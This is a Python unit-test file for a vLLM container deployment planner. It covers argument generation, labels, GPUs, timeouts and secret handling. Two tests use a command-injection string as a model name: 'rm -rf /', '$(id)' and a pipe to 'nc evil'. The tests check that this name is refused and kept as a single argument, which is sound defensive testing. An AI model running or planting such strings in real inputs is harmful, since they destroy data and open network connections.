"""A colour's container from the spec: argv, labels, GPUs, stop timeout and secrets."""

from __future__ import annotations

from dataclasses import replace

import pytest

from bgdeploy.errors import SpecError, UsageError
from bgdeploy.plan.container import ContainerPlan, plan_container, secret_values, server_args
from bgdeploy.plan.names import LABEL_PREFIX, Colour, Layout
from bgdeploy.spec import LoadedSpec
from tests.unit.conftest import MINIMAL, load

MODEL = "meta-llama/Llama-3.1-8B-Instruct"
IMAGE = "vllm/vllm-openai:v0.9.2"
LAYOUT = Layout(name="chat", home="/home/deploy")


def spec(extra: str = "") -> LoadedSpec:
    return load(MINIMAL + extra)


def container(loaded: LoadedSpec, colour: Colour = "blue") -> ContainerPlan:
    return plan_container(loaded.spec, LAYOUT, colour, loaded.spec_hash, "2025-01-01T00:00:00Z")


# --- generated vLLM arguments -----------------------------------------------------------------------------


def test_minimal_spec_generates_vllm_arguments() -> None:
    assert server_args(spec().spec) == [
        "--model",
        MODEL,
        "--served-model-name",
        MODEL,
        "--host",
        "0.0.0.0",
        "--port",
        "8000",
        "--gpu-memory-utilization",
        "0.45",
    ]


def test_every_optional_setting_and_extra_args_in_order() -> None:
    text = MINIMAL.replace(
        "  name: meta-llama/Llama-3.1-8B-Instruct\n",
        "  name: meta-llama/Llama-3.1-8B-Instruct\n  revision: abc123\n  served_name: chat\n",
    ) + (
        "  port: 9000\n"
        "  gpu_memory_utilization: 0.4\n"
        "  max_model_len: 8192\n"
        "  args: [--enable-prefix-caching, --dtype=bfloat16]\n"
    )
    assert server_args(load(text).spec) == [
        "--model",
        MODEL,
        "--revision",
        "abc123",
        "--served-model-name",
        "chat",
        "--host",
        "0.0.0.0",
        "--port",
        "9000",
        "--gpu-memory-utilization",
        "0.4",
        "--max-model-len",
        "8192",
        "--enable-prefix-caching",
        "--dtype=bfloat16",
    ]


def test_revision_and_max_model_len_absent_when_unset() -> None:
    args = server_args(spec().spec)
    assert "--revision" not in args
    assert "--max-model-len" not in args


def test_runtime_command_replaces_the_arguments_with_placeholders_filled() -> None:
    loaded = spec(
        "  port: 8080\n"
        '  command: [serve, "{model}", --name, "{served_name}", "--port={port}", "--json={{\\"a\\": 1}}"]\n'
        "  args: [--verbose]\n"
    )
    assert server_args(loaded.spec) == [
        "serve",
        MODEL,
        "--name",
        MODEL,
        "--port=8080",
        '--json={"a": 1}',
        "--verbose",
    ]


def _with_model_name(loaded: LoadedSpec, name: str) -> LoadedSpec:
    """The spec with a model name its schema refuses: argv safety must not depend on that pattern."""
    model = loaded.spec.model.model_copy(update={"name": name})
    return replace(loaded, spec=loaded.spec.model_copy(update={"model": model}))


def test_hostile_model_name_is_refused_and_would_stay_one_argument() -> None:
    hostile = "x; rm -rf / && echo $(id) `id` | nc evil 1"
    with pytest.raises(SpecError) as refused:
        load(MINIMAL.replace(f"name: {MODEL}", f"name: '{hostile}'"))
    assert "model.name: must be a model id or path" in refused.value.render()
    loaded = _with_model_name(spec(), hostile)
    args = server_args(loaded.spec)
    assert args[:2] == ["--model", hostile]
    assert args.count(hostile) == 2  # --model and --served-model-name, each one element
    plan = container(loaded)
    assert plan.command == tuple(args)
    assert plan.labels[f"{LABEL_PREFIX}model"] == hostile


def test_hostile_model_name_in_a_command_placeholder_stays_one_argument() -> None:
    hostile = "x; rm -rf /"
    loaded = _with_model_name(spec('  command: [serve, "{model}"]\n'), hostile)
    assert server_args(loaded.spec) == ["serve", hostile]


# --- the container plan -----------------------------------------------------------------------------------


def test_labels() -> None:
    loaded = spec()
    plan = container(loaded, "green")
    assert plan.labels == {
        "dev.bgdeploy.name": "chat",
        "dev.bgdeploy.colour": "green",
        "dev.bgdeploy.model": MODEL,
        "dev.bgdeploy.image": IMAGE,
        "dev.bgdeploy.spec-hash": loaded.spec_hash,
        "dev.bgdeploy.deployed-at": "2025-01-01T00:00:00Z",
        "dev.bgdeploy.gpus": "0",
        "dev.bgdeploy.gpu-memory-utilization": "0.45",
        "dev.bgdeploy.port": "8000",
    }
    assert all(key.startswith(LABEL_PREFIX) for key in plan.labels)


def test_a_fixed_host_port_is_published_and_recorded_in_the_labels() -> None:
    loaded = spec()
    plan = plan_container(loaded.spec, Layout("chat", "/home/deploy"), "blue", loaded.spec_hash, "t", host_port=20123)
    assert plan.host_port == 20123
    assert plan.labels["dev.bgdeploy.host-port"] == "20123"
    assert "dev.bgdeploy.host-port" not in container(loaded, "blue").labels


def test_name_image_and_port() -> None:
    plan = container(spec(), "green")
    assert plan.name == "bgdeploy-chat-green"
    assert plan.image == IMAGE
    assert plan.port == 8000
    assert container(spec(), "blue").name == "bgdeploy-chat-blue"


def test_gpus_per_colour() -> None:
    loaded = spec("gpus:\n  blue: [0, 1]\n  green: [2, 3]\n")
    assert container(loaded, "blue").gpus == (0, 1)
    assert container(loaded, "green").gpus == (2, 3)


def test_default_gpus_are_shared() -> None:
    assert container(spec(), "blue").gpus == container(spec(), "green").gpus == (0,)


def test_no_gpu() -> None:
    assert container(spec("gpus:\n  blue: []\n  green: []\n")).gpus == ()


@pytest.mark.parametrize("drain", ["0s", "1s", "2.5s", "120s", "10m"])
def test_stop_timeout_covers_the_drain(drain: str) -> None:
    loaded = spec(f"rollout:\n  drain_timeout: {drain}\n")
    plan = container(loaded)
    assert isinstance(plan.stop_timeout, int)
    assert plan.stop_timeout >= loaded.spec.rollout.drain_timeout


def test_env_volumes_shm_and_secret_names() -> None:
    loaded = spec(
        "  env: {HF_HUB_OFFLINE: 1, VLLM_LOGGING_LEVEL: INFO}\n"
        "  secret_env: [HF_TOKEN, VLLM_API_KEY]\n"
        "  volumes: [/data/hf:/root/.cache/huggingface, /models:/models:ro]\n"
        "  shm_size: 16g\n"
    )
    plan = container(loaded)
    assert plan.env == {"HF_HUB_OFFLINE": "1", "VLLM_LOGGING_LEVEL": "INFO"}
    assert plan.secret_names == ("HF_TOKEN", "VLLM_API_KEY")
    assert "HF_TOKEN" not in plan.env
    assert plan.volumes == ("/data/hf:/root/.cache/huggingface", "/models:/models:ro")
    assert plan.shm_size == "16g"


# --- secrets ----------------------------------------------------------------------------------------------

SECRETS = "  secret_env: [HF_TOKEN, VLLM_API_KEY]\n"


def test_secret_values_come_from_the_given_environment() -> None:
    environ = {"HF_TOKEN": "hf_s3cret", "VLLM_API_KEY": "sk-t0ps3cret", "OTHER": "not wanted"}
    assert secret_values(spec(SECRETS).spec, environ) == {"HF_TOKEN": "hf_s3cret", "VLLM_API_KEY": "sk-t0ps3cret"}


def test_no_secrets_is_an_empty_mapping() -> None:
    assert secret_values(spec().spec, {"HF_TOKEN": "x"}) == {}


def test_missing_secret_is_named_without_showing_any_value() -> None:
    environ = {"HF_TOKEN": "hf_s3cret_value"}
    with pytest.raises(UsageError) as info:
        secret_values(spec(SECRETS).spec, environ)
    message = str(info.value)
    assert "VLLM_API_KEY" in message
    assert "hf_s3cret_value" not in message
    assert "export it" in message


def test_every_missing_secret_is_named() -> None:
    with pytest.raises(UsageError) as info:
        secret_values(spec(SECRETS).spec, {})
    message = str(info.value)
    assert "HF_TOKEN, VLLM_API_KEY" in message
    assert "them" in message


def test_an_empty_secret_value_counts_as_set() -> None:
    assert secret_values(spec("  secret_env: [HF_TOKEN]\n").spec, {"HF_TOKEN": ""}) == {"HF_TOKEN": ""}
